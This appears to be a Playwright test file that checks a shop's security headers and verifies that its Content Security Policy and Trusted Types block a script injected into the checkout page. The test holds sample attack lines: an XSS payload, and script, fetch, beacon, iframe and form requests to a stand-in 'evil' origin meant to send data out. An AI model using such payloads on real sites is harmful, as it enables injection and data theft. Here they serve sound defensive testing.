import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { openCheckout } from '../fixtures/buyer.ts'
import { expect, test } from '../fixtures/hostile-world.ts'
import { root } from '../fixtures/program.ts'

test('the headers that merchants copy from the security guide are exactly those of the shop (threat 51)', async ({
  page,
  world,
}) => {
  const answer = await page.goto('/')
  const got = (await answer?.allHeaders()) ?? {}
  const guide = readFileSync(join(root, '.github/SECURITY.md'), 'utf8')
  const [, block = ''] = /<!-- headers -->\n\n```\n([\s\S]*?)```/.exec(guide) ?? []
  const lines = block.trim().split('\n')
  for (const line of lines) {
    const [, name = '', value = ''] = /^([\w-]+): (.*)$/.exec(line) ?? []
    const live = got[name.toLowerCase()]
      ?.replaceAll(world.checkoutOrigin, 'CHECKOUT')
      .replaceAll(world.shopUrl, 'SHOP')
    expect(live, name).toBe(value)
  }
  expect(lines).toHaveLength(7)
})

test('a script that got into the shop’s page can load, run, frame, send and embed nothing from elsewhere (threat 51)', async ({
  page,
  world,
  noise,
}) => {
  noise.allow(/./)
  await openCheckout(page)
  world.evil.serve('/*', () => ({ headers: { 'content-type': 'text/javascript' }, body: 'x' }))
  await page.evaluate(async (evil) => {
    const broken: string[] = []
    Object.assign(window, { broken })
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      broken.push(`${effectiveDirective} ${blockedURI.replace(evil, 'evil')}`),
    )
    const attempts: (() => unknown)[] = [
      async () => {
        // In a task of the page's own: what the tools evaluate may evaluate more.
        await new Promise((resolve) => setTimeout(resolve))
        broken.push(`ran ${new Function('return 1')()}`)
      },
      () =>
        document.body.append(
          Object.assign(document.createElement('script'), { src: `${evil}/s.js` }),
        ),
      () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>'),
      () =>
        document.body.append(Object.assign(document.createElement('iframe'), { src: `${evil}/f` })),
      () => Object.assign(new Image(), { src: `${evil}/i` }),
      () => fetch(`${evil}/c`).catch(() => {}),
      () => navigator.sendBeacon(`${evil}/b`, 'x'),
      () => new EventSource(`${evil}/e`),
      () => {
        const form = document.createElement('form')
        form.action = `${evil}/form`
        document.body.append(form)
        form.submit()
      },
      () => document.head.append(Object.assign(document.createElement('base'), { href: evil })),
    ]
    for (const attempt of attempts) {
      try {
        await attempt()
      } catch {
        // Trusted Types throw: nothing happened.
      }
    }
  }, world.evil.origin)
  // One for each attempt.
  const refused = [
    'base-uri evil/',
    'connect-src evil/b',
    'connect-src evil/c',
    'connect-src evil/e',
    'form-action evil/form?',
    'frame-src evil',
    'img-src evil/i',
    'require-trusted-types-for trusted-types-sink',
    'require-trusted-types-for trusted-types-sink',
    'require-trusted-types-for trusted-types-sink',
  ]
  await expect
    .poll(() => page.evaluate(() => Reflect.get(window, 'broken').sort()))
    .toEqual(refused)
  // What was sent all the same would have come before this.
  await page.request.get(`http://127.0.0.1:${world.evil.port}/end`)
  expect(world.evil.inbox.map(({ path }) => path)).toEqual(['/end'])
})
